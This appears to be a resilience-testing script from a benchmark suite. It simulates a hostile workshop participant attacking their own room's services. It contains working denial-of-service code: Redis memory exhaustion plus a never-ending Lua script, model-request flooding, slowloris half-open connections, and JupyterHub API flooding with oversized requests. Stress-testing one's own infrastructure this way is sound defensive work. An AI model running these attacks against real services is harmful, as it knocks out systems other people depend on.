"""A hostile participant's attacks on a workshop room, run from their own kernel by benchmarks/hub_load.py --hostile.

    python benchmarks/hostile_participant.py start ROOM_REDIS_SOCKET   # starts the four below, says what it reached
    python benchmarks/hostile_participant.py redis|model|connections|hub

Each attack runs in a process of its own (a new session, so it outlives the kernel's run, until the hub stops the
participant's server):

- redis: fill the participant's Redis (``AGENTLAB_STORE``) until it refuses, then run a Lua script that never ends;
- model: eight requests of 256 tokens at once to the room's model, each sent again as soon as it ends;
- connections: 900 half-open connections each to the room's site and model, opening new ones as the servers close
  old ones: half a request line and one header, never finished; half whole headers and one byte of a 5,000-byte body;
- hub: requests to the hub itself (its address is in every server's environment) without pause, each refused with a
  line in its log: an address of 12 kB that does not exist, and now and then a body of 4 MB.

Everything it uses is what any participant's kernel has: the hub's variables and their own account.
"""
from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

HELD = 900
SLOW_BODY = (b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
             b"Accept: application/json, text/event-stream\r\nContent-Length: 5000\r\n\r\n{")


def redis_attack() -> None:
    import redis
    r = redis.Redis.from_url(os.environ["AGENTLAB_STORE"], socket_timeout=None)
    try:
        for i in range(100_000):
            r.set(f"agentlab:fill:{i}", b"x" * (1 << 20))
    except redis.exceptions.ResponseError:
        pass  # full: its own limit
    r.eval("while true do end", 0)


def model_attack() -> None:
    body = json.dumps({"model": os.environ.get("AGENTLAB_MODEL", "m"), "max_tokens": 256, "temperature": 0.8,
                       "messages": [{"role": "user", "content": "Write a very long story about refunds."}]}).encode()

    def flood() -> None:
        while True:
            req = urllib.request.Request(os.environ["AGENTLAB_BASE_URL"] + "/chat/completions", body,
                                         {"Content-Type": "application/json",
                                          "Authorization": "Bearer " + os.environ.get("AGENTLAB_API_KEY", "")})
            try:
                urllib.request.urlopen(req, timeout=600).read()
            except OSError:  # refused (429: its queue is full) or cut: at once again, a little later
                time.sleep(0.2)
    for _ in range(8):
        threading.Thread(target=flood, daemon=True).start()
    while True:
        time.sleep(3600)


def connections_attack() -> None:
    ports = [urllib.parse.urlsplit(os.environ[v]).port for v in ("AGENTLAB_SITE_URL", "AGENTLAB_BASE_URL")
             if os.environ.get(v)]
    held: dict[int, list[socket.socket]] = {p: [] for p in ports if p}
    while True:
        for port, socks in held.items():
            for s in list(socks):
                try:
                    if s.recv(1) == b"":  # the server closed it
                        socks.remove(s)
                        s.close()
                except BlockingIOError:
                    pass
                except OSError:
                    socks.remove(s)
                    s.close()
            while len(socks) < HELD:
                try:
                    s = socket.create_connection(("127.0.0.1", port), timeout=2)
                    # half never finish their headers (idle); half send whole headers and one byte of a promised
                    # body (requests in progress, which no header deadline closes)
                    s.sendall(SLOW_BODY if len(socks) % 2 else b"GET /api/skills HTTP/1.1\r\nHost: x\r\n")
                    s.setblocking(False)
                    socks.append(s)
                except OSError:
                    break
        time.sleep(0.5)


def hub_attack() -> None:
    api = os.environ["JUPYTERHUB_API_URL"].rstrip("/")
    headers = {"Authorization": f"token {os.environ['JUPYTERHUB_API_TOKEN']}"}
    long = f"{api.rsplit('/api', 1)[0]}/{'a' * 12_000}"
    big = b"{" + b" " * (4 << 20) + b"}"
    activity = f"{api}/users/{os.environ['JUPYTERHUB_USER']}/activity"
    for i in range(10**9):
        req = urllib.request.Request(activity, big, {**headers, "Content-Type": "application/json"}) if i % 10 == 9 \
            else urllib.request.Request(f"{long}{i}", headers=headers)
        try:
            urllib.request.urlopen(req, timeout=10).read()
        except OSError:  # refused, as it should be: at once again
            pass
        time.sleep(0.01)


def start(room_redis: str) -> None:
    said: dict[str, object] = {}
    names = ["redis", "connections", "hub"] + (["model"] if os.environ.get("AGENTLAB_BASE_URL") else [])
    for name in names:
        subprocess.Popen([sys.executable, __file__, name], start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        with socket.socket(socket.AF_UNIX) as c:
            c.connect(room_redis)
        said["room_redis"] = "reached"
    except OSError as exc:
        said["room_redis"] = type(exc).__name__
    said["attacks"] = names
    print(json.dumps(said))


if __name__ == "__main__":
    what = sys.argv[1]
    {"redis": redis_attack, "model": model_attack, "connections": connections_attack, "hub": hub_attack}.get(
        what, lambda: start(sys.argv[2]))()
